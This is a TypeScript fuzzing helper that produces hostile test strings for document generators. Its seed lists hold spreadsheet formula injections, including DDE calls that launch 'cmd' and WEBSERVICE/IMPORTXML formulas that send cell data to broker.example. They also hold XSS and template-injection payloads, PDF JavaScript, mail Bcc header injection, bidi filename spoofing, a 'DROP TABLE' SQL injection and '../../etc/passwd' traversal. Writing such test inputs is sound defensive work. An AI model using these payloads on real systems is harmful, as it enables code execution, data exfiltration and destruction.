import type { Random } from './random.ts'

/**
 * Texts that break documents which are put together without care: formulas of spreadsheets, markup and scripts, operators
 * of PDF, header lines of mail, and what Unicode offers to hide or turn text around. The known ones come first, by the
 * number of the first text; mixtures of them follow.
 */
export function hostileTexts(random: Random, count: number, firstNumber = 0): string[] {
  return Array.from({ length: count }, (_, index) => seeds[firstNumber + index] ?? mixed(random))
}

/** Without lone surrogates, which no JSON text may bring in. */
function mixed(random: Random): string {
  const parts = Array.from({ length: 1 + random.below(4) }, () => piece(random))
  const text = parts.join(random.pick(['', '', ' ', '\n', ',', '";"', '\t']))
  return (random.chance(0.05) ? text.repeat(1 + random.below(12)) : text).slice(0, 900).toWellFormed() || '='
}

function piece(random: Random): string {
  const dice = random.fraction()
  if (dice < 0.5) return random.pick(seeds)
  if (dice < 0.65) return random.pick(formulaStarts) + random.pick(formulas)
  if (dice < 0.85) return Array.from({ length: 1 + random.below(12) }, () => anyCharacter(random)).join('')
  return random.pick([
    'Bound paper exercise book',
    'Größe “M” – 5 €',
    'x'.repeat(1 + random.below(200)),
    '12.50',
    '   ',
  ])
}

function anyCharacter(random: Random): string {
  const [from, to] = random.pick(ranges)
  const point = from + random.below(to - from + 1)
  return point >= 0xd800 && point <= 0xdfff ? '=' : String.fromCodePoint(point)
}

/** Blocks worth more than their share of all code points. */
const ranges: readonly (readonly [number, number])[] = [
  [0x01, 0x1f],
  [0x20, 0x7e],
  [0x7f, 0xa0],
  [0xa1, 0xff],
  [0x100, 0x24f],
  [0x2b0, 0x36f],
  [0x370, 0x52f],
  [0x530, 0x8ff],
  [0x900, 0x1fff],
  [0x2000, 0x206f],
  [0x20a0, 0x2bff],
  [0x3000, 0x30ff],
  [0x4e00, 0x9fff],
  [0xac00, 0xd7a3],
  [0xe000, 0xf8ff],
  [0xf900, 0xfffd],
  [0xfffe, 0xffff],
  [0x10000, 0x1ffff],
  [0xe0000, 0xe01ef],
]

const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  "'",
  '\t',
  '\r',
  '\n',
  '\0',
  ' ',
  '"',
  ';',
  ',',
  '＝',
  '＋',
  '－',
  '＠',
  '﹢',
  '−',
  '\u200b',
  '\ufeff',
  '%',
  '|',
]

const formulas = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://broker.example/?"&A1;"x")',
  'WEBSERVICE("https://broker.example/")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("https://broker.example/",A1),"//a")',
  "2+5+cmd|' /C calc'!A0\"",
  '=1+1',
  '-1',
  'A1',
  '{1;2}',
]

const seeds: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "'=1+1",
  "''",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '"=1+1"',
  '","=1+1',
  '"\r\n=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '\ufeff=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</style><script>alert(1)</script>',
  '</title><base href=//x.example>',
  '<!--',
  '-->',
  '<![CDATA[x]]>',
  '<?php x ?>',
  '&lt;script&gt;',
  '&amp;&#60;&#x3c;&lt',
  '&copy &notin; &NewLine;',
  '<plaintext>',
  '<textarea>',
  '</td></tr></table><form action=//x.example>',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv=refresh content="0;url=//x.example">',
  '<link rel=stylesheet href=//x.example>',
  '{{constructor.constructor("x")()}}',
  '#{7*7}',
  'javascript:alert(1)',
  'data:text/html,<script>x</script>',
  ') Tj ET BT (',
  '\\) Tj',
  '\\',
  '\\\\(',
  '(((',
  ')))',
  '<</JS (app.alert(1)) /S /JavaScript>>',
  '/URI (https://x.example)',
  '/AcroForm /Annots [ ]',
  'endstream endobj 1 0 obj',
  '%PDF-1.4 %%EOF',
  '<feff003d>',
  '\r\nBcc: other@x.example',
  '\nBcc: other@x.example',
  '\r\n\r\n<html>',
  '\r\n.\r\nMAIL FROM:<x@x.example>',
  '=?utf-8?Q?=0D=0ABcc:_x@x.example?=',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  'a\u2028b\u2029c',
  'a\u0085b',
  '\u202egnp.exe\u202c',
  '\u2066hidden\u2069',
  'pay\u00adpal\u200bx\u2060y',
  'שלום עולם',
  'مرحبا بالعالم',
  'नमस्ते दुनिया',
  'สวัสดี',
  '深圳市示例有限公司',
  '한국어 예시',
  'Łódź Żółć Ğüşiöç',
  'Ελληνικά Русский',
  'e\u0301 a\u0308\u0301 \u1100\u1161',
  'ﬁ ﬂ Ǆ ǆ ſ',
  '👩‍👩‍👧‍👦 🇨🇦 🏴\u{e0067}\u{e0062}\u{e007f}',
  '\u{1d400}\u{1d401}',
  '\ufffd\ufffe\uffff',
  '\u0000\u0001\u001b[31m\u007f\u009b',
  '\x1b]0;title\x07',
  "'; DROP TABLE orders; --",
  '__proto__',
  'null',
  'CON.csv',
  '../../etc/passwd',
]
